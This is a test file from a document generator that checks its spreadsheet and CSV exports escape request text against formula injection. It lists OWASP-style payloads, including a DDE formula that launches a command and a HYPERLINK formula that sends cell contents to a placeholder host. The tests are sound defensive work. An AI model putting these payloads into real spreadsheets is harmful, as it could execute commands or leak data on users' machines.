"""Text from a request never runs as a formula in a spreadsheet a clerk opens (issue 21, OWASP CSV injection).

Every table docgen writes (buku agenda, daftar arsip, permit report, batch report; the desk's
agenda download is the agenda export) goes through ``docgen.tables.write_table``. Cells are read
back twice: with openpyxl (no cell is a formula, the text is the text) and through LibreOffice
headless, which opens the XLSX, and the CSV with formula evaluation switched on, and saves what
it computed as CSV: a formula would show its result there, text shows itself.
"""

from __future__ import annotations

import copy
import csv
import re
import shutil
import subprocess
from datetime import date
from pathlib import Path

import openpyxl
from conftest import require, unavailable
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from test_desk import desk  # noqa: F401  (the desk server, a module fixture)

from docgen.agendabook import export_agenda
from docgen.batch.report import BatchLine, write_batch_report
from docgen.filing import archive_entries, export_archive_list
from docgen.kinds import get_kind
from docgen.permitreport import permit_report, write_permit_report
from docgen.pipeline import generate
from docgen.register import Register
from docgen.tables import write_table

#: Payloads from OWASP's page and from the lookalike and whitespace variants a clerk's sheet may carry.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "+2+3",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\uff1d1+1",  # fullwidth equals sign
    "\u22123",  # minus sign
    "'=1+1",
    "-5",
]
_LOOKS_RUNNABLE = re.compile(r"^[\s\u200b\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20\u2212\ufe62\ufe63\ufe66]")

# XML 1.0 cannot hold these control characters at all (an XLSX shows U+FFFD for them; tested apart).
_XML_TEXT = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="".join(
        chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))
    )),
    max_size=40,
)  # fmt: skip
# Text shaped like a formula: a trigger or its lookalike, after nothing or some leading blank.
_HOSTILE_TEXT = st.builds(
    lambda lead, mark, rest: lead + mark + rest, st.sampled_from(["", " ", "\t", "\r", "\n", "\u200b", "\u3000"]),
    st.sampled_from(list("=+-@\uff1d\uff0b\uff0d\uff20\u2212\ufe62\ufe66")), _XML_TEXT,
)  # fmt: skip
_REQUEST_TEXT = st.one_of(_XML_TEXT, _HOSTILE_TEXT)


def _write_both(folder: Path, texts: list[str]) -> tuple[Path, Path]:
    rows = [{"Teks": text, "Angka": -n} for n, text in enumerate(texts)]
    groups = [(texts[0] if texts else "", rows)]
    paths = []
    for fmt in ("xlsx", "csv"):
        target = folder / f"tabel.{fmt}"
        write_table(target, fmt, title="Uji", headings=["Teks", "Angka"], groups=groups)
        paths.append(target)
    return paths[0], paths[1]


def _xlsx_cells(path: Path) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(path)  # every sheet: a report's lists may follow its summary
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _escaped_as_owasp_says(field: str, text: str) -> None:
    """The CSV field is the text, behind one apostrophe when the text could run; never runnable itself."""
    assert not _LOOKS_RUNNABLE.match(field) and field[:1] not in ("\t", "\r")
    assert field in (text, "'" + text)
    if _LOOKS_RUNNABLE.match(text) or text[:1] in ("\t", "\r"):
        assert field == "'" + text


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(_REQUEST_TEXT, min_size=1, max_size=8))
@example(texts=HOSTILE)
def test_no_request_text_becomes_a_formula_and_its_visible_text_is_kept(tmp_path_factory, texts):
    folder = tmp_path_factory.mktemp("tabel")
    xlsx, csv_path = _write_both(folder, texts)
    cells = _xlsx_cells(xlsx)
    assert all(cell.data_type != "f" for cell in cells)
    heading = [texts[0]] if texts[0] else []
    assert [c.value for c in cells if c.column == 1] == ["Teks", *heading, *(t for t in texts if t)]
    numbers = [c.value for c in cells if c.column == 2 and c.row > 1]
    assert numbers == [-n for n in range(len(texts))]  # a real negative number stays a number
    rows = _csv_rows(csv_path)
    assert rows[0] == ["Teks", "Angka"]
    for (field, number), (n, text) in zip(rows[1:], enumerate(texts), strict=True):
        _escaped_as_owasp_says(field, text)
        assert number == str(-n)


def test_an_xlsx_cell_with_control_characters_xml_cannot_hold_is_written_not_refused(tmp_path):
    xlsx, csv_path = _write_both(tmp_path, ["a\x00b\x1b=c", "\x07=1+1"])
    cells = _xlsx_cells(xlsx)
    assert [c.value for c in cells if c.column == 1][2:] == ["a\ufffdb\ufffd=c", "\ufffd=1+1"]
    assert all(cell.data_type != "f" for cell in cells)
    assert [row[0] for row in _csv_rows(csv_path)[1:]] == ["a\x00b\x1b=c", "'\x07=1+1"]


# -- what LibreOffice computes when it opens the files -----------------------------------------


def _calc_installed() -> None:
    """LibreOffice with its Calc part (Debian ships it apart from Writer); CI fails without it."""
    require("soffice")
    program = Path(shutil.which("soffice") or "").resolve().parent
    if not any(program.glob("libsclo.so")):
        message = "LibreOffice Calc tidak terpasang (apt-get install libreoffice-calc-nogui)"
        unavailable(message)


_CSV_OUT = "csv:Text - txt - csv (StarCalc):44,34,76,1"
#: comma, double quote, UTF-8, from line 1, standard columns, language, quoted not as text, detect
#: special numbers, ..., and token 13: evaluate formulas (what makes a CSV formula run).
_CSV_IN = "Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1,true"


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _calc_to_csv(source: Path, out: Path, profile: Path, *, infilter: str | None = None) -> list[list[str]]:
    args = ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
    if infilter:
        args.append(f"--infilter={infilter}")
    subprocess.run([*args, "--convert-to", _CSV_OUT, "--outdir", str(out), str(source)],
                   check=True, capture_output=True, timeout=180)  # fmt: skip
    with (out / f"{source.stem}.csv").open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_libreoffice_evaluates_a_plain_csv_formula_so_the_check_below_can_see_one(tmp_path):
    _calc_installed()
    plain = tmp_path / "polos.csv"
    plain.write_text('"=1+1",-3\n', encoding="utf-8")
    assert _calc_to_csv(plain, tmp_path / "out", tmp_path / "profil", infilter=_CSV_IN) == [["2", "-3"]]


@settings(max_examples=3, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(_HOSTILE_TEXT, min_size=10, max_size=25))
@example(texts=HOSTILE)
def test_libreoffice_shows_request_text_as_typed_and_computes_nothing(tmp_path_factory, texts):
    _calc_installed()
    folder = tmp_path_factory.mktemp("calc")
    xlsx, csv_path = _write_both(folder, texts)
    profile = folder / "profil"
    from_xlsx = _calc_to_csv(xlsx, folder / "dari-xlsx", profile)
    from_csv = _calc_to_csv(csv_path, folder / "dari-csv", profile, infilter=_CSV_IN)
    body = from_xlsx[2:] if texts[0] else from_xlsx[1:]
    assert [row[0] for row in body] == texts  # XLSX: exactly the text, nothing computed
    assert [row[1] for row in body] == [str(-n) for n in range(len(texts))]
    # CSV: the text behind OWASP's apostrophe; LibreOffice reads a CR inside a field as a line break.
    for (field, _), text in zip(from_csv[1:], texts, strict=True):
        _escaped_as_owasp_says(_lines(field), _lines(text))
    assert [row[1] for row in from_csv[1:]] == [str(-n) for n in range(len(texts))]


# -- every writer -------------------------------------------------------------------------------

PAYLOAD = '=HYPERLINK("http://example.invalid";"buka")'


def _assert_no_formula(paths: tuple[Path, Path] | list[Path], payload: str = PAYLOAD) -> None:
    xlsx, csv_path = sorted(paths, key=lambda p: p.suffix != ".xlsx")
    cells = _xlsx_cells(xlsx)
    assert all(cell.data_type != "f" for cell in cells)
    assert any(isinstance(c.value, str) and payload in c.value for c in cells)
    fields = [field for row in _csv_rows(csv_path) for field in row]
    assert any(payload in field for field in fields)
    assert not any(_LOOKS_RUNNABLE.match(field) for field in fields)


def test_agenda_export_keeps_a_hostile_subject_and_addressee_as_text(workspace, tmp_path):
    letter = copy.deepcopy(get_kind("surat-keluar").example)
    letter["hal"], letter["kepada"] = PAYLOAD, ["@SUM(1;2)"]
    generate(workspace, "surat-keluar", letter)
    with Register.open(workspace) as reg:
        paths = [tmp_path / "agenda.xlsx", tmp_path / "agenda.csv"]
        for path in paths:
            export_agenda(reg, path, path.suffix[1:])
    _assert_no_formula(paths)
    _assert_no_formula(paths, "@SUM(1;2)")


def test_archive_list_keeps_a_hostile_subject_as_text(workspace, tmp_path):
    letter = copy.deepcopy(get_kind("surat-keluar").example)
    letter["hal"] = PAYLOAD
    generate(workspace, "surat-keluar", letter)
    with Register.open(workspace) as reg:
        entries = archive_entries(reg, workspace.archive_codes, per=date(2026, 12, 1))
    paths = [tmp_path / "arsip.xlsx", tmp_path / "arsip.csv"]
    for path in paths:
        export_archive_list(entries, path, path.suffix[1:])
    _assert_no_formula(paths)


def test_permit_report_keeps_a_hostile_holder_and_object_as_text(workspace, tmp_path):
    permit = copy.deepcopy(get_kind("izin").dated_example())
    permit["pemohon"]["nama"], permit["objek"]["uraian"] = PAYLOAD, "+62 343 000"
    made = generate(workspace, "izin", permit)
    day = date.fromisoformat(permit["tanggal"])
    with Register.open(workspace) as reg:
        report = permit_report(reg, day, day)
    assert made.number
    paths = [tmp_path / "izin.xlsx", tmp_path / "izin.csv"]
    for path in paths:
        write_permit_report(report, path, path.suffix[1:])
    _assert_no_formula(paths)
    _assert_no_formula(paths, "+62 343 000")


def test_batch_report_keeps_a_hostile_key_and_cell_error_as_text(tmp_path):
    lines = [
        BatchLine(2, PAYLOAD, "tidak sah", error="-1+1 bukan tanggal"),
        BatchLine(3, "@kunci", "gagal", error="=2*3"),
    ]
    paths = write_batch_report(lines, tmp_path, title="=judul")
    _assert_no_formula(paths)
    _assert_no_formula(paths, "=2*3")


def test_every_spreadsheet_is_written_by_the_one_helper():
    """A new writer that opens its own csv.writer or openpyxl Workbook would skip the escaping."""
    root = Path(__file__).resolve().parents[1] / "docgen"
    own = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(")
    writers = [p.relative_to(root).as_posix() for p in root.rglob("*.py") if own.search(p.read_text(encoding="utf-8"))]
    assert writers == ["tables.py"]


def test_the_desk_agenda_download_keeps_a_subject_typed_at_the_desk_as_text(request, tmp_path):
    """Through the desk's own form and download (a real server), as a clerk's browser would."""
    from test_desk import enter_letter

    clerk = request.getfixturevalue("desk").client("siti")
    enter_letter(clerk, '=HYPERLINK("http://example.invalid";"buka") dari meja')
    paths = []
    for fmt, query in (("xlsx", ""), ("csv", "?format=csv")):
        answer = clerk.get(f"/agenda{query}")
        assert answer.status == 200
        paths.append(tmp_path / f"agenda.{fmt}")
        paths[-1].write_bytes(answer.body)
    _assert_no_formula(paths, "dari meja")
